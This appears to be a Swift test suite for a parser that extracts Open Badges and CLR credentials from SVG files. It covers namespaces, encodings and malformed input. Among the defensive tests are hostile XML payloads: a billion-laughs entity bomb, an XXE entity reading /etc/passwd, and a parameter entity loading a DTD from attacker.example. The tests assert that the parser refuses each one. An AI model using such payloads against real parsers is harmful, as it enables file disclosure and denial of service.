import BadgeImages
import Testing

/// SVG badge elements made in the test: prefixes, scopes, placements, references, and the DOCTYPE attacks.
struct SVGUnbakingTests {
    static let ob2 = "http://openbadges.org"
    static let ob3 = "https://purl.imsglobal.org/ob/v3p0"
    static let jws = "eyJhbGciOiJub25lIn0.eyJpc3MiOiJodHRwczovL2V4YW1wbGUub3JnIn0.c2ln"

    static func unbake(_ text: String) throws(UnbakeError) -> UnbakedPayload {
        try BakedBadge.unbake(Array(text.utf8))
    }

    @Test func anyPrefixBoundToTheNamespaceCounts() throws {
        let payload = try Self.unbake(
            """
            <svg xmlns="http://www.w3.org/2000/svg" xmlns:ob="\(Self.ob3)"><ob:credential verify="\(Self.jws)"/></svg>
            """)
        #expect(payload.standard == .openBadges3)
        #expect(payload.kind == .jwt(Self.jws))
        #expect(payload.source == .svgElement(name: "ob:credential", namespace: Self.ob3, part: .verifyAttribute, line: 1))
        #expect(payload.warnings.isEmpty)
    }

    @Test func theDefaultNamespaceCountsToo() throws {
        let payload = try Self.unbake(
            #"<svg xmlns="http://www.w3.org/2000/svg"><assertion xmlns="http://openbadges.org" verify="https://example.org/a/1"></assertion></svg>"#)
        #expect(payload.standard == .openBadges2)
        #expect(payload.kind == .url("https://example.org/a/1"))
    }

    @Test func readsTheCLRNamespace() throws {
        let payload = try Self.unbake(
            #"<svg xmlns:clr="https://purl.imsglobal.org/clr/v2p0"><clr:credential><![CDATA[ {"type":"ClrCredential"} ]]></clr:credential></svg>"#)
        #expect(payload.standard == .clr2)
        #expect(payload.kind == .json(#"{"type":"ClrCredential"}"#))
        #expect(payload.source == .svgElement(name: "clr:credential", namespace: "https://purl.imsglobal.org/clr/v2p0", part: .body, line: 1))
    }

    @Test func thePrefixOpenbadgesBoundElsewhereDoesNotCount() throws {
        let error = try #require(throws: UnbakeError.self) {
            try Self.unbake(#"<svg xmlns:openbadges="https://example.org/not-badges"><openbadges:assertion verify="https://example.org/a"/></svg>"#)
        }
        #expect(error.code == .noPayload)
    }

    @Test func namespaceScopesEndWithTheirElement() throws {
        // `ob` is bound only inside <g>; the second <ob:credential> is outside it, so it is not a badge element.
        let payload = try Self.unbake(
            """
            <svg><g xmlns:ob="\(Self.ob3)"><ob:credential verify="https://example.org/in"/></g>
            <ob:credential xmlns:ob="https://example.org/other" verify="https://example.org/out"/></svg>
            """)
        #expect(payload.kind == .url("https://example.org/in"))
        #expect(payload.warnings.map(\.code) == [.misplacedElement])
    }

    @Test func anUndeclaredOpenbadgesPrefixIsReadWithAWarning() throws {
        let payload = try Self.unbake(#"<svg><openbadges:assertion verify="https://example.org/a/9"/></svg>"#)
        #expect(payload.standard == .openBadges2)
        #expect(payload.warnings.map(\.code) == [.undeclaredPrefix])
    }

    @Test func decodesReferencesInAttributesAndText() throws {
        let url = try Self.unbake(#"<svg xmlns:o="\#(Self.ob2)"><o:assertion verify="https://example.org/a?x=1&amp;y=&#x32;"/></svg>"#)
        #expect(url.kind == .url("https://example.org/a?x=1&y=2"))
        let json = try Self.unbake(
            #"<svg xmlns:o="\#(Self.ob3)"><o:credential>{"name":"&lt;caf&#233;&gt; &apos;R&amp;D&apos; \&quot;"}</o:credential></svg>"#)
        #expect(json.kind == .json(#"{"name":"<café> 'R&D' \""}"#))
    }

    @Test func anUndeclaredEntityInTheBadgeIsUnreadable() throws {
        let error = try #require(throws: UnbakeError.self) {
            try Self.unbake(#"<svg xmlns:o="\#(Self.ob3)"><o:credential>{"name":"&nbsp;"}</o:credential></svg>"#)
        }
        #expect(error.code == .unreadablePayload)
        #expect(error.reason.contains("&nbsp;"))
    }

    @Test func readsLatin1DocumentsAndSkipsAUTF8ByteOrderMark() throws {
        let latin1 =
            Array(#"<?xml version="1.0" encoding="ISO-8859-1"?><svg xmlns:o="http://openbadges.org"><o:assertion>{"n":"caf"#.utf8) + [0xE9]
            + Array(#""}</o:assertion></svg>"#.utf8)
        #expect(try BakedBadge.unbake(latin1).kind == .json(#"{"n":"café"}"#))
        let bom = [0xEF, 0xBB, 0xBF] + Array(#"<svg xmlns:o="http://openbadges.org"><o:assertion verify="https://example.org/b"/></svg>"#.utf8)
        #expect(try BakedBadge.unbake(bom).kind == .url("https://example.org/b"))
        let error = try #require(throws: UnbakeError.self) { try Self.unbake(#"<?xml version="1.0" encoding="Shift_JIS"?><svg/>"#) }
        #expect(error.code == .malformedSVG)
    }

    @Test func anElementNestedDeepInsideIsFoundWithAWarning() throws {
        let payload = try Self.unbake(
            """
            <svg xmlns:openbadges="\(Self.ob2)"><defs><g><metadata>
            <openbadges:assertion verify="https://example.org/deep"/></metadata></g></defs></svg>
            """)
        #expect(payload.kind == .url("https://example.org/deep"))
        #expect(payload.source == .svgElement(name: "openbadges:assertion", namespace: Self.ob2, part: .verifyAttribute, line: 2))
        #expect(payload.warnings.map(\.code) == [.misplacedElement])
    }

    @Test func childElementsInsideTheBadgeElementAreIgnored() throws {
        let payload = try Self.unbake(
            #"<svg xmlns:ob="\#(Self.ob3)"><ob:credential><desc>not this</desc><![CDATA[{"id":"urn:x"}]]><title>nor this</title></ob:credential></svg>"#
        )
        #expect(payload.kind == .json(#"{"id":"urn:x"}"#))
        #expect(payload.warnings.map(\.code) == [.childElementsIgnored])
    }

    @Test func aBadgeElementInsideAnotherIsASecondPayload() throws {
        let payload = try Self.unbake(
            #"<svg xmlns:ob="\#(Self.ob3)"><ob:credential verify="\#(Self.jws)"><ob:credential verify="https://example.org/inner"/></ob:credential><ob:credential/></svg>"#
        )
        #expect(payload.kind == .jwt(Self.jws))
        #expect(payload.warnings.map(\.code) == [.childElementsIgnored, .secondPayload, .secondPayload])
        #expect(payload.warnings[1].message.contains("inside the first"))
    }

    @Test func anEmptyBadgeElementIsNamed() throws {
        let error = try #require(throws: UnbakeError.self) {
            try Self.unbake(#"<svg xmlns:ob="\#(Self.ob3)"><ob:credential>  </ob:credential></svg>"#)
        }
        #expect(error.code == .emptyPayload)
    }

    @Test func verifyWinsOverABodyWhichIsKeptAsTheEmbeddedCopy() throws {
        let payload = try Self.unbake(
            #"<svg xmlns:o="\#(Self.ob2)"><o:assertion verify="https://example.org/h"><![CDATA[{"verify":{"url":"https://example.org/h"}}]]></o:assertion></svg>"#
        )
        #expect(payload.kind == .url("https://example.org/h"))
        #expect(payload.source == .svgElement(name: "o:assertion", namespace: Self.ob2, part: .verifyAttribute, line: 1))
        #expect(payload.embeddedCopy == .json(#"{"verify":{"url":"https://example.org/h"}}"#))
    }

    @Test func billionLaughsIsRefusedNotExpanded() throws {
        var laughs = #"<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY lol "lol">"#
        for level in 1...9 {
            laughs += "<!ENTITY lol\(level) \"" + String(repeating: "&lol\(level == 1 ? "" : String(level - 1));", count: 10) + "\">"
        }
        laughs += #"]><svg xmlns:o="http://openbadges.org"><o:assertion>{"x":"&lol9;"}</o:assertion></svg>"#
        let clock = ContinuousClock()
        let started = clock.now
        let error = try #require(throws: UnbakeError.self) { try Self.unbake(laughs) }
        #expect(error.code == .entityDeclarationRefused)
        #expect(error.location == "line 1")
        #expect(clock.now - started < .seconds(1))
    }

    @Test(arguments: [
        #"<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><svg><desc>&xxe;</desc></svg>"#,
        #"<!DOCTYPE svg [<!ENTITY % remote SYSTEM "https://attacker.example/evil.dtd"> %remote;]><svg/>"#,
        #"<!DOCTYPE svg [ <!-- a comment with ]> in it --> <!ENTITY e "]>"> ]><svg/>"#,
    ])
    func externalAndParameterEntitiesAreRefused(document: String) throws {
        let error = try #require(throws: UnbakeError.self) { try Self.unbake(document) }
        #expect(error.code == .entityDeclarationRefused)
    }

    @Test func anExternalDTDReferenceIsNeverReadButAllowed() throws {
        let payload = try Self.unbake(
            """
            <?xml version="1.0"?>
            <!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [<!ELEMENT x ANY><!-- ok -->]>
            <svg xmlns:o="\(Self.ob2)"><o:assertion verify="https://example.org/dtd"/></svg>
            """)
        #expect(payload.kind == .url("https://example.org/dtd"))
    }

    @Test(arguments: [
        #"<svg xmlns:o="http://openbadges.org"><g></h><o:assertion verify="https://e.org/a"/></svg>"#,
        #"<svg xmlns:o="http://openbadges.org"><g><o:assertion verify="https://e.org/a"></svg>"#,
        #"<svg xmlns:o="http://openbadges.org"><o:assertion verify=https://e.org/a/></svg>"#,
        #"<svg xmlns:o="http://openbadges.org"><o:assertion verify="https://e.org/a"verify="b"/></svg>"#,
        #"<svg xmlns:o="http://openbadges.org"><o:assertion><![CDATA[{"a":1}</o:assertion></svg>"#,
        #"<svg xmlns:o="http://openbadges.org"><!-- never closed <o:assertion verify="https://e.org/a"/></svg>"#,
        #"<svg xmlns:o="http://openbadges.org"><o:assertion verify="https://e.org/a" verify="https://e.org/b"/></svg>"#,
    ])
    func malformedDocumentsAreNamed(document: String) throws {
        let error = try #require(throws: UnbakeError.self) { try Self.unbake(document) }
        #expect(error.code == .malformedSVG, "\(error)")
    }

    @Test func damageAfterTheBadgeElementIsAWarning() throws {
        let payload = try Self.unbake(#"<svg xmlns:o="http://openbadges.org"><o:assertion verify="https://e.org/a"/><g><path d="M0"#)
        #expect(payload.kind == .url("https://e.org/a"))
        #expect(payload.warnings.map(\.code) == [.damagedAfterPayload])
    }

    @Test func deepNestingIsRefused() throws {
        let depth = 10_000
        let document = "<svg>" + String(repeating: "<g>", count: depth) + String(repeating: "</g>", count: depth) + "</svg>"
        let error = try #require(throws: UnbakeError.self) { try Self.unbake(document) }
        #expect(error.code == .nestingTooDeep)
        let shallow = try #require(throws: UnbakeError.self) { try Self.unbake("<svg><g><g></g></g></svg>") }
        #expect(shallow.code == .noPayload)
    }

    @Test func theUnbakedControlsHaveNoPayload() throws {
        let error = try #require(throws: UnbakeError.self) { try Self.unbake(#"<svg xmlns="http://www.w3.org/2000/svg"><title>x</title></svg>"#) }
        #expect(error.code == .noPayload)
    }
}
